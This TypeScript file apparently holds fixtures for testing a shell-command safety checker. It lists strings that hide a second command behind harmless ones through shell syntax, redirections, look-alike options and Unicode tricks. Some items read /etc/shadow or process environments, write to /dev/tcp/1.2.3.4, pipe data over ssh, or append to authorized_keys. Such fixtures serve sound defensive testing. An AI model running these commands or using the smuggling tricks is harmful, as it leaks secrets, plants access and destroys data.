/** Text that shells, versions of shells or parsers read in different ways, or that hides what it starts. */
export const hostileShells: Readonly<Record<string, string>> = {
  'words that shells read differently': String.raw`
ls ~+/x
ls ~-
ls ~1
ls ~root
echo ~nobody/.ssh
ls {a,b}/../c
ls x{1..3}
ls {,.}bashrc
ls @(a|b)
ls !(x)
ls ?(x)
ls *(x)
ls +(x)
ls [^a]
ls **/x $x
echo $'a\u0062'
echo $'\x72m'
echo $'\162m'
echo $'\e[0m'
echo $'\0'
echo $"ls"
echo "\$(id)$(id)"
echo "a${'`'}id${'`'}"
echo "$x"
echo "${'$'}{x}"
echo ${'$'}{x:-rm}
echo ${'$'}{!x}
echo ${'$'}{x/a/b}
echo ${'$'}((x=1))
echo $((a[$(id)]))
echo $[a[0]]
echo $_ $- $* $#
ls$IFS-l
ls${'$'}{IFS}-l
cat$IFS/etc/shadow
!!
!ls
!-1
^ls^rm`,
  'constructs that hide a command': `
ls;{ rm x; }
ls;(rm x)
ls&&(rm x)
ls|{ cat; }
ls|(cat)
{ ls; } > x
(ls) > x
{ls;}
time ls
time -p ls
time { ls; }
! { ls; }
! (ls)
coproc ls
coproc X { ls; }
function ls { rm x; }
ls() { rm x; }; ls
ls () { rm x; }
alias ls='rm x'; ls
[[ -f x ]]
[[ -f x ]] && ls
[[ x =~ y ]]
(( 1 ))
((x=1)) && ls
let x=1
if true; then ls; fi
for i in 1; do ls; done
for ((;;)); do ls; done
while :; do ls; done
until ls; do ls; done
case a in a) ls ;; esac
case a in a) ls ;& esac
select i in a; do ls; done
ls ;; rm
ls ;& rm
ls & rm
ls &; rm
ls &
ls || rm x
ls | rm x
ls |& rm x
true && false || rm x
rm x
rm x
: ls
. ./run
source run
./run
../run
/tmp/run
~/run
exec ls
exec 3<x
eval 'rm x'
trap 'rm x' EXIT
set -- rm x
unset PATH
read x
printf -v PATH x
hash -p /tmp/x ls
enable -f /tmp/x.so x
mapfile -C rm x
compgen -C rm
bind -x rm
history -w x
fc -e rm
jobs
wait
umask 0
ulimit -f 0
shopt -s extglob
declare x=1
local x=1
readonly x
typeset x
export x=1
env
env ls
nohup ls
setsid ls
timeout 1 ls
nice ls
ionice ls
stdbuf -o0 ls
chroot / ls
unshare ls
nsenter ls
strace ls
script -c ls
find . | xargs rm
ls | sh
ls | bash
ls | sudo tee x
ls | tee x
cat x | ssh host
ls > /dev/tcp/1.2.3.4/80`,
  'redirections that write or read elsewhere': String.raw`
ls >|x
ls >| x
ls <>x
ls <> x
cat <>x
ls >&x
ls >& x
ls &>x
ls &>>x
ls >>x
ls 2>x
ls 2>>x
ls 2>|x
ls 2>&x
ls 2<&1
ls 10>x
ls {fd}>x
ls {fd}<x
ls 1>&2
ls >&2
ls >&-
ls 2>&-
ls 0<&-
ls <&3
ls 2>/dev/null>x
ls 2> /dev/null > x
ls 2>/dev/nullx
ls 2>/dev/null/x
ls 2>/dev/stderr
ls 2>/dev/tty
ls > '/dev/null'
ls 2>"/dev/nul"
cat <<E
cat <<'E'
cat <<-E
cat <<\E
cat <<< x
cat <<<$(id)
cat < $x
cat < *
cat < ?x
cat < ~root/x
cat < /dev/sda
cat < /proc/kmsg
cat < /proc/self/environ
cat < /proc/1/fd/3
cat < <(rm x)
diff <(rm x) a
cat >(rm x)
cat < a b < /dev/sda`,
  'options that look like others': String.raw`
tail ‐f x > y
sort --оutput=x y
ls —help x ; rm
tail --follow=descriptor x
tail --f x
tail -qf x
tail -vf x
tail -zF x
tail -n1 -f x
tail -n1f x
sort -to x -o y
sort -k1o x
sort -ro x
sort -uox y
sort --compress-program sh x
sort --compress x
sort --temporary-directory . x
sort --tem=. x
sort -T. x
sort --files0-from x
sort --files0=x
sort --random-sou=x y
sort --out x y
grep --fi x
grep --incl=x y
grep --exclude-f=x y
rg --pre-glob x --pre sh y
rg --hostname-bin sh y
rg --search-zi x
rg -zi x
rg --ignore-file=x y
rg --generate man
rg --type-add 'x:include:all' y
rg --debug x
find . -fprintf x %p
find . -fls x
find . -execdir sh {} +
find -D search . -delete
find . -ignore_readdir_race -delete
find . -maxdepth 1 -exec ls {} +
find . -newerXt x
find . -context x
find . -printf %p -delete
find . -o -delete
find . ! -delete
find . , -delete
find . ( -delete )
tree -o=x
tree --outpu x
tree -Jo x
tree -XH x -R
tree --fromtabfile x
tree --gitfile=x
tree --infofile=x
stat --printf
stat --form=%n x
file --compile
file --magic-file=x y
file --files-from=x
file --preserve x
file -kC
file -bz x
file --uncompress x
file --special-files /dev/sda
du --exclude-from /dev/sda x
du --files0-from x
df --sync x
date --s=x
date -d 'TZ="/dev/ptmx" now'
date -d 'TZ=":/dev/ptmx" now'
date --date='TZ="../../../dev/ptmx" now'
date -d 'now TZ="UTC"'
find /tmp -newermt 'TZ="/dev/ptmx" 2020-01-01'
grep -r -D read x .
date -us @0
date +%F -s @0
date --set '2020-01-01'
date -u 010100002020
date 0101
hostname -bF x
hostname -F/etc/x
hostname x y
uniq --count a b
uniq -cd a b
uniq a ./b
uniq -- a ./b
uniq ./[ab].log
cut --files0-from=x -f1
cut -d : -f 1 --output=x y
tr --outpu a b
nl --output=x y
tac --outpu x
column --outpu=x y
sed --in-place= 1p x
sed -n --in-place 1p x
sed -n --follow-symlinks -i 1p x
sed -nf x y
sed -ns 1p x
sed -z -n 1p x
sed -n 1,2w x
sed -n '1p;1w x' y
sed -n '$!N;w x' y
sed -n '1{w x
}' y
sed -n 1W x
sed -n '1F;e id' y
sed -n 'p;e id' y
sed -n '/x/e id' y
sed -n '/x/s//y/we' y
sed --debug -n 1p x ; w
xxd -r x y
xxd -revert x y
xxd -o 1 x y
od --output=x y
hexdump --format-file x y
strings --output=x y
strings -o x @y
jq --from-file=x .
jq --rawfile x y .
jq -L. 'import "x" as x; .'
jq 'input_line_number, input_filename'
jq '$ENV.HOME'
jq 'env.HOME'
jq '@sh "\(env)"'
jq 'getpath(["a"]) | $__loc__ | env'
zgrep --fil=x y
zgrep -f/etc/shadow x
zcat --keep --force x > y
ps -eo pid,args e
ps eo pid
ps axe -o pid
ps --sort=x e
ps -o environ=
ps -O environ
pgrep --env X=1 y
pgrep -L -F x y
pgrep --signal 9 x
free -h -s 1
free -c2 -s1
last --dns -n1
last -dn1
who --lookup -a
id --zero --zzz
lsof -r 1 -p 1
lsof +r
lsof -D r
lsof -i @localhost
lsof -b -A x
lsof -x fl +D /
lsof -F0r1 -r1
lsof +m x
lsblk --sysroot / 
findmnt --poll=umount
findmnt --tab-file x
mount --rbind a b
mount -o bind a b
mount -f a b
mount x y
getent ahosts x
getent -s db passwd
getent ethers x
getent netgroup x
getent aliases x
ip -b x
ip -force link
ip --netns x a
ip addr change 1.1.1.1 dev eth0
ip link property add dev x
ip route replace default via 1.1.1.1
ip -o monitor all
ip vrf exec x sh
ip netns exec x sh
ip sr tunsrc set ::1
ss --kill dst 1.1.1.1
ss -K state established
ss -tD x
ss -F x
ss --net=x -t
systemctl --force reboot
systemctl poweroff
systemctl isolate x
systemctl set-environment A=1
systemctl import-environment
systemctl link /tmp/x
systemctl add-wants a b
systemctl revert x
systemctl preset-all
systemctl switch-root /x
systemctl clean x
systemctl freeze x
systemctl bind x y
systemctl mount-image x y
systemctl log-level debug
systemctl service-watchdogs no
systemctl default
systemctl show --property Environment x
systemctl status --host=x
systemctl cat --root=/x y
journalctl --vacuum-files 1
journalctl --interval 1 --setup-keys
journalctl --smart-relinquish-var
journalctl --verify-key x
journalctl --dump-catalog x
journalctl -D x
journalctl -i x
journalctl --merge --follow
journalctl -n5f
journalctl -kf
docker ps --format '{{.}}' -H x
docker build .
docker save x -o y
docker export web
docker commit web x
docker tag a b
docker load -i x
docker login
docker volume rm x
docker network rm x
docker system prune
docker image prune
docker container rm x
docker update web
docker rename a b
docker kill web
docker pause web
docker wait web
docker events
docker swarm init
docker plugin install x
docker buildx ls
docker context use x
docker logs --foll web
docker stats --no-stream=0 web
docker compose -p x rm
docker compose -p x kill
docker compose -p x restart
docker compose -p x watch
docker compose -p x events
docker compose -p x cp a b
docker compose -p x alpha
zpool add x y
zpool attach x y z
zpool remove x y
zpool labelclear x
zpool trim x
zpool history
zpool wait x
zpool status x 1 1
zfs create x
zfs rename a b
zfs clone a b
zfs promote a
zfs receive x
zfs allow x
zfs share x
zfs unmount x
zfs diff a b
zfs hold x y
dpkg --force-all -i x
dpkg -A x
dpkg --add-architecture x
dpkg --clear-avail
dpkg --triggers-only x
dpkg -l --admindir=x
dpkg -S --root x
dpkg-query -W
apt-cache -q=2 -o x=y policy
apt-cache depends x
apt-cache add x
apt-cache dotty x
apt list
apt-get install x
cmp --output=x a b
sha256sum --check=x
md5sum --warn -c x
basename --output=x y
realpath -- /net/x
readlink -f /net/x/y
printenv -0 PATH
nproc --all=1
uptime --container x
uname --operating-system=x
whoami -u
true > x
false > x
false --x
false x || rm y
false $(id)
uptime --s
uptime -x
uptime > x
uname -s x
uname --al
uname > x
test -e x -a -e y
test -e /net/x
[ -e /net/x ]
[ a == b
printf %n x
printf '%s' $(id)
printf '%b' > x
echo -e > x
echo x > ~/.bashrc
echo x >> .ssh/authorized_keys
wc --files0-from=- x
head --lines x y
cat --output=x y
ls --output=x
diff --output=x a b
diff --to-file=x a
diff --ifdef=x a b
diff --old-group-format=x a b`,
};

/** Made by code: what a line of a template cannot hold. */
export const builtShells: readonly string[] = [
  'ls\\\n>x',
  'ls -\\\nl\nrm x',
  'tail -\\\n-follow x',
  'sort -\\\no x y',
  'find . -del\\\nete',
  'l\\\ns\\\n;rm x',
  'cat <<E\nrm x\nE',
  'cat <<E\n$(rm x)\nE\n',
  "cat <<'E'\nx\nE\nrm x",
  'cat <<E;rm x\nE',
  'cat <<-E\n\tx\n\tE\nrm x',
  'ls "a\n$(rm x)\n"',
  "ls 'a\n' ; rm x",
  "ls 'a\\' ; rm x '",
  'ls "a\\\\" ; rm x "',
  'ls \\"a" ; rm x "b"',
  'ls \\\\\nrm x',
  'ls # a\\\nrm x',
  'ls a#b\nrm x',
  '#\nrm x',
  'ls;#\nrm x',
  'ls &&\n\nrm x',
  'ls |\n# c\nrm x',
  'ls\0;rm x',
  'ls\0',
  'ls\rrm x',
  'ls;\rrm x',
  '\ufeffls; rm x',
  'ls \u202e; rm x',
  'ls\u2028rm x',
  'ls\u0085rm x',
  'ls\u00a0;rm x',
  'ls \u037e rm x\nrm x',
  'ls \uff1b rm x; rm x',
  'ls \uff5c sh | sh',
  '\u{e0072}\u{e006d} x',
  'r\u200bm x',
  'r\u0300m x',
  '\u1d43ls x',
  'ｒｍ x',
  'ls \ud800\udc00; rm x',
  'ls \udbff',
  'ls \x1b]0;x\x07',
  "echo $'a\\\nb'",
  'echo $\\\n(rm x)',
  'echo "$\\\n(rm x)"',
  'echo `\\\nrm x`',
  'echo "`rm x`"',
  'ls `',
  'ls $(',
  'ls ${',
  'ls $((',
  'ls <(',
  "ls $'",
  'ls "$(',
  'ls [[:alpha:]$(rm x)]',
  'ls *$(rm x)*',
  `ls ${'a'.repeat(102_400)}`,
  `ls '${'a'.repeat(102_400)}'; rm x`,
  `cat ${'./*'.repeat(40_000)}`,
  `ls ${'a* '.repeat(600)}`,
  `echo ${'a '.repeat(501)}`,
  `${'ls a b c d e f;'.repeat(90)}true`,
  `${'true;'.repeat(101)}`,
  `${'! '.repeat(100)}ls`,
  `docker inspect -f '{{${' '.repeat(8_000)}' web`,
  `docker inspect -f '{{${' '.repeat(8_000)}x}}' web`,
  `docker inspect -f '${'{{'.repeat(8_000)}' web`,
  `grep -${'i'.repeat(15_000)}W x`,
  `${'('.repeat(500)}ls${')'.repeat(500)}`,
  `${'{ '.repeat(500)}ls;${' }'.repeat(500)}`,
  `echo ${'$('.repeat(500)}id${')'.repeat(500)}`,
  `echo ${'"$('.repeat(500)}id${')"'.repeat(500)}`,
  `echo ${'${x:-'.repeat(500)}y${'}'.repeat(500)}`,
  `echo ${'{a,'.repeat(500)}b${'}'.repeat(500)}`,
  `echo ${'$(('.repeat(500)}1${'))'.repeat(500)}`,
  `[[ ${'( '.repeat(500)}a${' )'.repeat(500)} ]]`,
  `cat ${'<<E '.repeat(150)}`,
  `echo '${'<<'.repeat(150)}'; rm x`,
];
